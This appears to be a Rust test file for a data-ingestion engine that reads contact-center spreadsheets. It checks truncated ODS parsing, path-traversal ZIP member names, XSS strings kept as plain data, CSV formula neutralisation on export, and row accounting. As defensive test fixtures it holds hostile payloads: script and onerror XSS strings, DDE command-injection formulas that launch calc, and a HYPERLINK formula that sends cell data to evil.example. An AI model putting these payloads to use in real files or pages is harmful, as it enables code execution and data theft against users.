    // fuzzer's input: the document ends inside the table.
    let cut = ods_content(ODS_ROWS).replace("</table:table></office:spreadsheet></office:body></office:document-content>", "");
    assert_eq!(error_of("cut.ods", &ods(&cut)).1, "`content.xml` ends inside a table: the document is cut short");
    let note = ods_content(r#"<table:table-row><table:table-cell office:value-type="string"><office:annotation><text:p>note"#).replace("</table:table></office:spreadsheet></office:body></office:document-content>", "");
    assert_eq!(error_of("note.ods", &ods(&note)).1, "`content.xml` ends inside a table: the document is cut short");
    // A nameless table starting inside the named one does not close it (found second).
    let nameless = ods_content(&format!("{ODS_ROWS}<table:table>")).replace("</table:table></office:spreadsheet>", "</office:spreadsheet>");
    assert_eq!(error_of("nameless.ods", &ods(&nameless)).1, "`content.xml` ends inside a table: the document is cut short");
    // A stray quote in the XML declaration must not hide the tags after it (found third).
    let declaration = cut.replace("<?xml version=\"1.0\" encoding", "<?xml version=\"1.0- encoding");
    assert_ne!(declaration, cut);
    assert_eq!(error_of("declaration.ods", &ods(&declaration)).1, "`content.xml` ends inside a table: the document is cut short");
    let closed_table_open_note = format!("{}<office:annotation><text:p>x", ods_content(ODS_ROWS));
    assert_eq!(error_of("note2.ods", &ods(&closed_table_open_note)).1, "`content.xml` ends inside a cell note: the document is cut short");
}

// See: issue 9
#[test]
fn issue_9_zip_member_names_with_path_traversal_are_labels_only() {
    let csv: &[u8] = b"id,created,channel,agent\nT1,2026-03-02T09:00:00Z,email,Ana\n";
    let zip = zip_of(&[("../../../../etc/passwd.csv", csv), ("/absolute/tickets.csv", csv), ("..\\..\\windows\\win.csv", csv), ("a/../../b.csv", csv)]);
    let ing = read("traversal.zip", &zip).expect("reads");
    let parts: Vec<(&str, u64)> = ing.parts.iter().map(|p| (p.summary.file.as_str(), p.summary.used)).collect();
    // The engine writes nothing anywhere (no I/O: tests/engine/tidy.rs); names are shown as text.
    assert_eq!(
        parts,
        [
            ("traversal.zip/../../../../etc/passwd.csv", 1),
            ("traversal.zip//absolute/tickets.csv", 1),
            ("traversal.zip/..\\..\\windows\\win.csv", 1),
            ("traversal.zip/a/../../b.csv", 1)
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// Output safety: text stays text, formulas never run

// See: issue 9
#[test]
fn issue_9_html_and_script_in_every_text_field_are_kept_verbatim_as_data() {
    let p = part_of("html_and_script.csv", &hostile("html_and_script.csv"));
    assert_eq!(counts(&p), (4, 4, 0, 0));
    let payloads = ["<script>window.__pwned=1</script>", "<img src=x onerror=\"window.__pwned=1\">", "\"><svg onload=window.__pwned=1>", "<b>bold</b> &amp; <i>it</i>"];
    assert_eq!(ids(&p), payloads);
    assert_eq!(agents(&p), payloads);
    let teams: Vec<&str> = p.contacts.iter().map(|c| p.strings.get(c.team)).collect();
    assert_eq!(teams, payloads);
    // In metrics.json the payload is a JSON string: quotes escaped, nothing else changed.
    let ds = Dataset::from_parts(vec![p]);
    let json = Report::build(&ds, &Params::default(), &Filters::default()).to_json();
    assert!(json.contains(r#""<img src=x onerror=\"window.__pwned=1\">""#), "agent group keys are plain JSON strings");
}

// See: issue 9
#[test]
fn issue_9_formulas_in_text_fields_are_read_as_text_and_neutralised_on_export() {
    let p = part_of("formulas.csv", &hostile("formulas.csv"));
    assert_eq!(counts(&p), (6, 6, 0, 0));
    let mut values = agents(&p);
    // Values are trimmed when read: the leading tab and carriage return go, the formula stays.
    assert_eq!(
        values,
        ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1", "=1+1"]
    );
    values.truncate(4);
    values.extend(["\t=1+1", "\r=1+1", "-12.5", "Ana"]);
    let rows: Vec<Vec<String>> = values.iter().map(|v| vec![v.to_string()]).collect();
    let csv = to_csv(&["agent".into()], &rows);
    assert_eq!(
        csv,
        "agent\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r\n'+cmd|' /C calc'!A0\r\n'@SUM(1+1)*cmd|' /C calc'!A0\r\n'-2+3+cmd|' /C calc'!A0\r\n'\t=1+1\r\n\"'\r=1+1\"\r\n-12.5\r\nAna\r\n"
    );
}

// ---------------------------------------------------------------------------------------------
// Row accounting as an invariant

mod props {
    use proptest::prelude::*;

    use deflect::engine::ingest::text::TextLimits;
    use deflect::engine::ingest::Ingester;

    use super::*;

    /// What is done to one generated row, and what must become of it.
    #[derive(Clone, Copy, Debug, PartialEq)]
    enum Fault {
        None,
        BadDate,
        Year9999,
        BlankCreated,
        NegativeTalk,
        BadNumber,
        ExtraFields,
        TooManyFields,
        TooLong,
        Nul,
        Bom,
        Outbound,
        ReplyBeforeCreation,
        Duplicate,
    }

    impl Fault {
        fn rejects(self) -> bool {
            matches!(
                self,
                Fault::BadDate | Fault::Year9999 | Fault::BlankCreated | Fault::NegativeTalk | Fault::BadNumber | Fault::ExtraFields | Fault::TooManyFields | Fault::TooLong
            )
        }
    }

    fn faults() -> impl Strategy<Value = Fault> {
        prop::sample::select(vec![
            Fault::None,
            Fault::BadDate,
            Fault::Year9999,
            Fault::BlankCreated,
            Fault::NegativeTalk,
            Fault::BadNumber,
            Fault::ExtraFields,
            Fault::TooManyFields,
            Fault::TooLong,
            Fault::Nul,
            Fault::Bom,
            Fault::Outbound,
            Fault::ReplyBeforeCreation,
            Fault::Duplicate,
        ])
    }

    const LIMITS: TextLimits = TextLimits { max_record_bytes: 64 * 1024, max_fields: 12 };

    /// A canonical contacts file: row 0 is clean (duplicates copy its id), every other row
    /// carries its fault; `unclosed` leaves a quote open in the last row.
    fn file(faults: &[Fault], unclosed: bool) -> String {
        let mut out = String::from("id,created,channel,agent,team,talk_s,direction,first_response\n");
        for (i, f) in faults.iter().enumerate() {
            let id = if *f == Fault::Duplicate { "T0".to_string() } else { format!("T{i}") };
            let created = format!("2026-03-02T{:02}:{:02}:00Z", 8 + i / 60, i % 60);
            let mut fields = vec![id, created.clone(), "email".into(), format!("agent{}", i % 3), "Tier 1".into(), "60".into(), "inbound".into(), String::new()];
            match f {
                Fault::None | Fault::Duplicate => {}
                Fault::BadDate => fields[1] = "31/02/2026 10:00".into(),
                Fault::Year9999 => fields[1] = "31/12/9999 23:59".into(),
                Fault::BlankCreated => fields[1] = String::new(),
                Fault::NegativeTalk => fields[5] = "-5".into(),
                Fault::BadNumber => fields[5] = "lots".into(),
                Fault::ExtraFields => fields.push("extra".into()),
                Fault::TooManyFields => fields.extend((0..5).map(|k| format!("x{k}"))),
                Fault::TooLong => fields[3] = "y".repeat(70_000),
                Fault::Nul => fields[3] = format!("agent\0{}", i % 3),
                Fault::Bom => fields[3] = format!("\u{feff}agent{}\u{feff}", i % 3),
                Fault::Outbound => fields[6] = "outbound".into(),
                Fault::ReplyBeforeCreation => fields[7] = "2026-03-01T00:00:00Z".into(),
            }
            out.push_str(&fields.join(","));
            if unclosed && i + 1 == faults.len() {
                out.push_str(",\"never closed");
            }
            out.push('\n');
        }
        out
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

        /// Whatever is injected, every data row is used or rejected (with its reason listed),
        /// the counts are exactly the injected ones, chunk boundaries change nothing, and no
        /// metric counts a rejected row: `contact_volume` is the number of distinct demand
        /// contacts that were used.
        #[test]
        fn issue_9_rows_are_used_or_rejected_and_metrics_see_only_used_rows(
            rest in prop::collection::vec(faults(), 0..40),
            unclosed in any::<bool>(),
            chunk in 1usize..700,
        ) {
            let mut faults = vec![Fault::None];
            faults.extend(rest);
            let text = file(&faults, unclosed);
            let mut opts = IngestOptions::new(Zone::utc());
            opts.limits = LIMITS;
            let mut ing = Ingester::new("faults.csv", opts);
            for c in text.as_bytes().chunks(chunk) {
                ing.feed(c);
            }
            let ing = ing.finish().expect("reads");
            prop_assert_eq!(ing.parts.len(), 1);
            let p = &ing.parts[0];
            let s = &p.summary;
            let last_rejected = unclosed && !faults[faults.len() - 1].rejects();
            let rejected = faults.iter().filter(|f| f.rejects()).count() as u64 + u64::from(last_rejected);
            let used_faults: Vec<Fault> = faults.iter().take(faults.len() - usize::from(last_rejected)).copied().filter(|f| !f.rejects()).collect();
            prop_assert_eq!(s.rows, faults.len() as u64);
            prop_assert_eq!(s.rows, s.used + s.rejected);
            prop_assert_eq!(s.rejected, rejected);
            prop_assert_eq!(s.excluded, used_faults.iter().filter(|f| **f == Fault::Outbound).count() as u64);
            prop_assert_eq!(s.warnings, used_faults.iter().filter(|f| **f == Fault::ReplyBeforeCreation).count() as u64);
            prop_assert_eq!(p.contacts.len() as u64, s.used);
            let listed = p.diagnostics.iter().filter(|d| d.severity == Severity::Rejected).count() as u64;
            prop_assert_eq!(listed, s.rejected);
            // NULs and BOMs never make a new agent.
            let mut agents: Vec<&str> = p.contacts.iter().map(|c| p.strings.get(c.agent)).collect();
            agents.sort_unstable();
            agents.dedup();
            prop_assert!(agents.iter().all(|a| ["agent0", "agent1", "agent2"].contains(a)), "{:?}", agents);

            let ds = Dataset::from_parts(ing.parts);
            let (rows, used, rejected_total) = ds.totals();
            prop_assert_eq!((rows, used + rejected_total), (faults.len() as u64, faults.len() as u64));
            let demand = used_faults.iter().filter(|f| !matches!(f, Fault::Outbound | Fault::Duplicate)).count() as i64;
            let report = Report::build(&ds, &Params::default(), &Filters::default());
            let volume = report.headline("contact_volume").and_then(|r| r.value).map(|v| format!("{v:?}"));
            prop_assert_eq!(volume, Some(format!("Int({demand})")));
            // The per-channel rows add up to the same total.
            let by_channel: i64 = report
                .rows("contact_volume")
                .filter(|r| r.by.as_deref() == Some("channel"))
                .filter_map(|r| match r.value { Some(deflect::engine::metrics::Num::Int(n)) => Some(n), _ => None })
                .sum();
            prop_assert_eq!(by_channel, demand);
        }
    }
}

/// Found by the row-accounting property test at 800 cases: with a field limit below the
/// tokenizer's starting buffer (256 fields), records over the limit were read whole, and three
/// such rows outvoted the header. The buffers now start no larger than the limits.
#[test]
fn issue_9_a_field_limit_below_the_starting_buffer_is_enforced() {
    let text = "id,created,channel,agent,team,talk_s,direction,first_response\n\
                T0,2026-03-02T08:00:00Z,email,agent0,Tier 1,60,inbound,\n\
                T1,2026-03-02T08:01:00Z,email,agent1,Tier 1,60,inbound,,x0,x1,x2,x3,x4\n\
                T2,2026-03-02T08:02:00Z,email,agent2,Tier 1,60,inbound,,x0,x1,x2,x3,x4\n\
                T3,2026-03-02T08:03:00Z,email,agent0,Tier 1,60,inbound,,x0,x1,x2,x3,x4\n";
    for chunk in [1, 7, 4096] {
        let mut opts = IngestOptions::new(Zone::utc());
        opts.limits = TextLimits { max_record_bytes: 64 * 1024, max_fields: 12 };
        let mut ing = Ingester::new("faults.csv", opts);
        for c in text.as_bytes().chunks(chunk) {
            ing.feed(c);
        }
        let ing = ing.finish().expect("reads");
        let p = &ing.parts[0];
        assert_eq!(p.summary.header_line, 1, "chunk {chunk}");
        assert_eq!((p.summary.rows, p.summary.used, p.summary.rejected), (4, 1, 3), "chunk {chunk}");
    }
}
